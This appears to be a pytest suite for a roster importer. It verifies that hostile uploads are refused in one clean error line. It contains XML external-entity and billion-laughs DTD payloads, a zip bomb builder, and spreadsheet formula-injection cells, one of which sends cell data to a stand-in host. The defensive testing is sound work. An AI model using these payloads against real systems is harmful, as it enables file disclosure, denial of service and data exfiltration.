"""Hostile and oversized import files (issue 13 item 8): bounded size, rows and columns,
streamed reading, no DTDs (XXE, billion laughs), zip bombs unpacked only as far as the cap,
formula-looking cells stored as text; every refusal one line, no traceback, no path."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from homevisit.ids import id_check_character
from homevisit.server.cli import main
from homevisit.server.importer import (
    MAX_COLUMNS,
    MAX_FILE_BYTES,
    MAX_XLSX_UNPACKED_BYTES,
    ImportRefused,
    read_rows,
)
from homevisit.server.models import Household, Member

ID_IN_NAME = "320122198706152711"
FATHER = "32032119800101001" + id_check_character("32032119800101001")
HEADER = ["household_ref", "region_code", "member_name", "relation", "address", "id_number",
          "employer", "phone"]
ROW = ["h1", "320321", "王大山", "father", "红窑镇1号", FATHER, "县医院", "13812341234"]


@pytest.fixture(autouse=True)
def _roster_secret(secret_file):
    """The server's roster secret, which the import commands need before reading a file."""
    return secret_file


def run(url: str, *args: str) -> int:
    return main(["--database-url", url, *args])


def write_csv(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def write_xlsx(path: Path, rows: list[list[object]]) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def rewrite_part(path: Path, part: str, change) -> Path:
    """Rewrite one XML part of a real XLSX as an attacker would, keeping the rest."""
    with zipfile.ZipFile(path) as original:
        parts = {info.filename: original.read(info) for info in original.infolist()}
    parts[part] = change(parts[part])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return path


def with_doctype(doctype: bytes, entity: bytes):
    """The part with a DTD in front and the member's name replaced by the entity."""

    def change(xml: bytes) -> bytes:
        body = xml.replace("王大山".encode(), b"&" + entity + b";")
        if body.startswith(b"<?xml"):
            declaration, rest = body.split(b"?>", 1)
            return declaration + b"?>" + doctype + rest
        return doctype + body

    return change


def one_clean_line(capsys, expected: str) -> None:
    captured = capsys.readouterr()
    lines = captured.err.strip().splitlines()
    assert len(lines) == 1, captured.err
    assert expected in lines[0]
    assert "Traceback" not in captured.err
    assert ID_IN_NAME not in captured.out + captured.err


def households(db) -> int:
    return db.execute(select(func.count()).select_from(Household)).scalar_one()


XXE = b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
LAUGHS = (b'<!DOCTYPE sst [<!ENTITY lol0 "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10)
                     for n in range(1, 10))
          + b"]>")


@pytest.mark.parametrize(("doctype", "entity"), [(XXE, b"xxe"), (LAUGHS, b"lol9")],
                         ids=["xxe", "billion-laughs"])
def test_xml_with_a_dtd_is_refused_in_one_line(database_url, db, tmp_path, capsys, doctype,
                                               entity):
    path = write_xlsx(tmp_path / f"张三_{ID_IN_NAME}.xlsx", [ROW])
    rewrite_part(path, "xl/worksheets/sheet1.xml", with_doctype(doctype, entity))
    assert run(database_url, "assign", "import", str(path)) == 1
    one_clean_line(capsys, "DTD")
    assert households(db) == 0


def test_a_zip_bomb_is_refused_after_unpacking_no_more_than_the_cap(database_url, db, tmp_path,
                                                                    capsys):
    path = write_xlsx(tmp_path / "bomb.xlsx", [ROW])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive, \
            archive.open("xl/padding.xml", "w", force_zip64=True) as part:
        block = b" " * (1 << 20)
        for _ in range(MAX_XLSX_UNPACKED_BYTES // len(block) + 8):
            part.write(block)
    assert path.stat().st_size < 2 * 1024 * 1024  # a small file that unpacks past the cap
    assert run(database_url, "assign", "import", str(path)) == 1
    one_clean_line(capsys, "unpacks to too much")
    assert households(db) == 0


def test_a_sheet_claiming_the_whole_grid_is_read_as_the_rows_it_has(database_url, db, tmp_path,
                                                                     capsys):
    path = write_xlsx(tmp_path / "assign.xlsx", [ROW])
    rewrite_part(path, "xl/worksheets/sheet1.xml",
                 lambda xml: xml.replace(b'<dimension ref="A1:H2"/>',
                                         b'<dimension ref="A1:XFD1048576"/>'))
    assert b"XFD1048576" in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert run(database_url, "assign", "import", str(path)) == 0
    assert households(db) == 1


def test_formula_looking_cells_are_stored_as_text(database_url, db, tmp_path):
    row = ["h1", "320321", '=HYPERLINK("http://x.example/?"&A1,"点此")', "father",
           "@SUM(1+1)", FATHER, "-2+3", "+8613812341234"]
    assert run(database_url, "assign", "import", str(write_csv(tmp_path / "a.csv", [row]))) == 0
    member = db.execute(select(Member)).scalar_one()
    assert member.name.startswith("'=HYPERLINK(")
    assert member.employer == "'-2+3"
    assert member.phone == "+8613812341234"  # a plain number stays as it is
    assert db.execute(select(Household)).scalar_one().address == "'@SUM(1+1)"


def test_a_formula_cell_in_xlsx_is_stored_as_its_text_not_its_value(database_url, db, tmp_path):
    row = [*ROW[:2], "=CONCATENATE(\"王\",\"大山\")", *ROW[3:]]
    assert run(database_url, "assign", "import", str(write_xlsx(tmp_path / "a.xlsx", [row]))) == 0
    assert db.execute(select(Member)).scalar_one().name == "'=CONCATENATE(\"王\",\"大山\")"


def test_a_file_over_the_size_cap_is_refused_before_reading(database_url, db, tmp_path, capsys):
    path = tmp_path / f"张三_{ID_IN_NAME}.csv"
    with path.open("wb") as f:
        f.truncate(MAX_FILE_BYTES + 1)  # sparse: costs no disk
    assert run(database_url, "roster", "import", "payroll", str(path)) == 1
    one_clean_line(capsys, "larger than")


def test_too_many_columns_is_refused(database_url, db, tmp_path, capsys):
    header = HEADER + [f"extra{n}" for n in range(MAX_COLUMNS)]
    path = write_csv(tmp_path / "wide.csv", [ROW], header=header)
    assert run(database_url, "assign", "import", str(path)) == 1
    one_clean_line(capsys, "columns")


def test_rows_past_the_cap_are_refused_while_streaming(tmp_path):
    path = write_csv(tmp_path / "long.csv", [ROW] * 1001)
    with pytest.raises(ImportRefused, match="more than 1000 rows"):
        for _ in read_rows(path, max_rows=1000):
            pass


@pytest.mark.parametrize("content", [b"\x00\xff\xfe garbage", b"PK\x03\x04 not a zip"],
                         ids=["binary-csv", "broken-xlsx"])
def test_unreadable_files_are_one_line(database_url, tmp_path, capsys, content):
    suffix = ".xlsx" if content.startswith(b"PK") else ".csv"
    path = tmp_path / f"张三_{ID_IN_NAME}{suffix}"
    path.write_bytes(content)
    assert run(database_url, "roster", "import", "payroll", str(path)) == 1
    one_clean_line(capsys, "nothing imported")


def test_a_missing_file_or_a_folder_is_one_line(database_url, tmp_path, capsys):
    assert run(database_url, "assign", "import", str(tmp_path / f"{ID_IN_NAME}.csv")) == 1
    one_clean_line(capsys, "does not exist")
    assert run(database_url, "assign", "import", str(tmp_path)) == 1
    one_clean_line(capsys, "folder")
